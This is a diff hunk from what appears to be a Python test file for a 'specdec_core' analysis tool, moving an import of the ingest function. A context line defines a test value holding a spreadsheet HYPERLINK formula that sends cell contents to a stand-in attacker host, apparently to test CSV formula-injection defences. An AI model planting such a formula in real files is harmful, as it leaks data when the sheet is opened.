@@ -14,8 +14,8 @@ from helpers import rec, write_jsonl
 from specdec_core import config
 from specdec_core.analysis.report import mismatch_report, report_csv
 from specdec_core.cli import main
+from specdec_core.ingest.load import ingest
 from specdec_core.store.connection import Store
-from specdec_core.store.ingest import ingest
 
 ROOT = Path(__file__).resolve().parents[2]
 HOSTILE_ID = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
